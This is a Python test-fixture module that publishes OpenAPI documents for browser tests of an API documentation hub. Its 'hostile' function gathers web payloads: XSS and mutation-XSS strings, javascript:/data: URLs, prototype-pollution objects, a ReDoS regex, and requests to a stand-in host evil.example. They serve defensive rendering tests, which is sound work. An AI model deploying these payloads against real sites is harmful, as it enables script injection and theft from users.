"""Documents that the browser tests publish, and how."""

import json
from pathlib import Path
from typing import Any

from deedbox_client import Deedbox, Visibility
from hub import Hub

CONTRACTS = Path(__file__).parents[3] / "scripts" / "contracts"


def publish(hub: Hub, api: str, version: str, document: bytes | dict[str, Any]) -> str:
    """Publish *document* (YAML if it is not JSON) and return the address of the version's pages."""
    content = document if isinstance(document, bytes) else json.dumps(document).encode()
    media_type = "application/json" if content.startswith(b"{") else "application/yaml"
    with Deedbox(base_url=hub.url, token=hub.admin) as client:
        if api not in [one.name for one in client.apis.list()]:
            client.apis.create(name=api, title=api, visibility=Visibility.PUBLIC)
        client.versions.publish(api, version, content, content_type=media_type)
    return f"/apis/{api}/versions/{version}"


def answered(description: str = "Fine.", **more: Any) -> dict[str, Any]:
    """Return the `responses` of an operation."""
    return {"200": {"description": description, **more}}


def streams() -> dict[str, Any]:
    """Return an OpenAPI 3.2 document with a stream of events, one of JSON lines, and methods of its own."""
    event = {
        "type": "object",
        "properties": {"event": {"const": "moved"}, "data": {"type": "string", "description": "The parcel."}},
    }
    line = {"type": "object", "properties": {"celsius": {"type": "number", "description": "At the sensor."}}}
    return {
        "openapi": "3.2.0",
        "$self": "https://elsewhere.example/streams",
        "info": {"title": "Streams", "version": "1.0.0"},
        "tags": [{"name": "live", "summary": "Live data"}],
        "paths": {
            "/events": {
                "get": {
                    "operationId": "follow",
                    "tags": ["live"],
                    "responses": answered(content={"text/event-stream": {"itemSchema": event}}),
                }
            },
            "/lines": {
                "get": {
                    "operationId": "measure",
                    "tags": ["live"],
                    "responses": answered(content={"application/jsonl": {"itemSchema": line}}),
                },
                "query": {"operationId": "search", "tags": ["live"], "responses": answered()},
                "additionalOperations": {
                    "COPY": {"operationId": "copy", "tags": ["live"], "responses": answered()}
                },
            },
        },
    }


def entangled(version: str) -> dict[str, Any]:
    """Return a document by OpenAPI *version* with references of all kinds, in circles and to nothing."""
    reference = "$ref"
    tree = {
        "type": "object",
        "properties": {
            "children": {"type": "array", "items": {reference: "#/components/schemas/Tree"}},
            "kind": {reference: "#/components/schemas/a~1b/properties/kind"},
            "limit": {reference: "#/paths/~1trees~1{id}/parameters/0/schema"},
            "share": {reference: "#/paths/~1100%/get/parameters/0/schema"},
            "model": {reference: "#/x-models/Foo"},
        },
    }
    pets = {
        "oneOf": [{reference: "#/components/schemas/Cat"}, {reference: "#/components/schemas/Dog"}],
        "discriminator": {
            "propertyName": "kind",
            "mapping": {"cat": "Cat", "hound": "#/components/schemas/Dog"},
        },
    }
    kinds = {"type": "object", "required": ["kind"], "properties": {"kind": {"type": "string"}}}
    links = {
        "Again": {"operationId": "read", "parameters": {"id": "1"}},
        "By": {"operationRef": "#/paths/~1pets/get", "description": "By its place."},
    }
    parameter = {"name": "id", "in": "path", "required": True, "schema": {"type": "integer", "minimum": 1}}
    tree_schema = {"schema": {reference: "#/components/schemas/Tree"}}
    return {
        "openapi": version,
        "info": {"title": "Entangled", "version": "1.0.0"},
        "security": [{"Key": []}],
        "x-models": {"Foo": {"properties": {"bar": {reference: "#/components/schemas/Bar"}}}},
        "paths": {
            "/100%": {"get": {"parameters": [{**parameter, "in": "query"}], "responses": answered()}},
            "/trees/{id}": {
                "parameters": [parameter],
                "servers": [{"url": "https://trees.example"}],
                "get": {
                    "operationId": "read",
                    "responses": answered(content={"application/json": tree_schema}, links=links),
                },
                "put": {
                    "operationId": "write",
                    "requestBody": {reference: "#/components/requestBodies/Tree"},
                    "responses": {"404": {reference: "#/components/responses/Nowhere"}, **answered()},
                },
            },
            "/pets": {
                "get": {
                    "operationId": "pets",
                    "security": [],
                    "parameters": [{reference: "#/components/parameters/Since"}],
                    "responses": answered(content={"application/json": {"schema": pets}}, links=links),
                }
            },
        },
        "components": {
            "schemas": {
                "Tree": tree,
                "a/b": kinds,
                "Cat": {"allOf": [{reference: "#/components/schemas/a~1b"}]},
                "Dog": {"allOf": [{reference: "#/components/schemas/a~1b"}, {"title": "Dog"}]},
                "Bar": {"type": "boolean"},
                "Alone": {"type": "string"},
            },
            "parameters": {"Since": {"name": "since", "in": "query", "schema": {"type": "string"}}},
            "requestBodies": {"Tree": {"content": {"application/json": tree_schema}}},
            "securitySchemes": {"Key": {"type": "apiKey", "in": "header", "name": "X-Key"}},
        },
    }


def hostile(port: int) -> dict[str, Any]:
    """Return a document that tries to run something, to call the canary at *port*, and to look about."""
    call = f"http://evil.example:{port}"
    run = "window.hurt=1;fetch('/v1/hub')"
    text = "\n\n".join((
        f"<script>{run}</script><img src=x onerror=\"{run}\"><svg onload=\"{run}\"></svg>",
        "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
        f"<form action={call}><button>x</button></form><style>@import '{call}/style.css';</style>",
        f"<base href='{call}/'><meta http-equiv=refresh content='0;{call}'>",
        f"<link rel=stylesheet href='{call}/link.css'>",
        f"[click](javascript:{run}) [data](data:text/html,<script>{run}</script>)",
        f"</script><script>{run}</script>",
        ("<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=1 onerror=window.hurt=1&gt;\">"),
        "\u2028window.hurt=1\u2029 <!--<script>",
    ))  # fmt: skip
    return {
        "openapi": "3.1.0",
        "info": {
            "title": f"</title><script>{run}</script>{{{{7*7}}}}",
            "version": "1.0.0",
            "description": text,
            "termsOfService": f"javascript:{run}",
            "contact": {"name": text, "url": f"java\nscript:{run}"},
            "license": {"name": text, "url": f"data:text/html,<script>{run}</script>"},
            "x-logo": {"url": f"{call}/logo.png", "href": f"javascript:{run}"},
        },
        "externalDocs": {"url": f"javascript:{run}", "description": text},
        "servers": [{"url": f"javascript:{run}//"}, {"url": "/"}],
        "tags": [{"name": text, "description": text, "externalDocs": {"url": f"vbscript:{run}"}}],
        "paths": {
            "/x</script><script>window.hurt=1</script>": {
                "get": {
                    "operationId": "__proto__",
                    "summary": text,
                    "description": text,
                    "tags": [text],
                    "parameters": [
                        {
                            "name": "<img src=x onerror=window.hurt=1>",
                            "in": "query",
                            "description": text,
                            "schema": {"type": "string", "pattern": "(a+)+$", "default": text},
                            "example": {"$ref": "#/components/schemas/Polluting"},
                        }
                    ],
                    "responses": answered(
                        text,
                        content={
                            "application/json": {
                                "schema": {"$ref": "#/components/schemas/Polluting"},
                                "examples": {
                                    text: {
                                        "summary": text,
                                        "value": json.loads(
                                            '{"__proto__": {"polluted": 1}, "x": "</script>"}'
                                        ),
                                    }
                                },
                            },
                            "text/html": {"example": text},
                        },
                    ),
                }
            }
        },
        "components": {
            "schemas": {
                "Polluting": {
                    "type": "object",
                    "description": text,
                    "properties": {
                        **json.loads('{"__proto__": {"type": "string", "default": {"polluted": 1}}}'),
                        "constructor": {
                            "properties": {"prototype": {"properties": {"polluted": {"const": 1}}}}
                        },
                        text: {"enum": [text]},
                    },
                    "default": json.loads('{"constructor": {"prototype": {"polluted": 1}}}'),
                }
            }
        },
    }
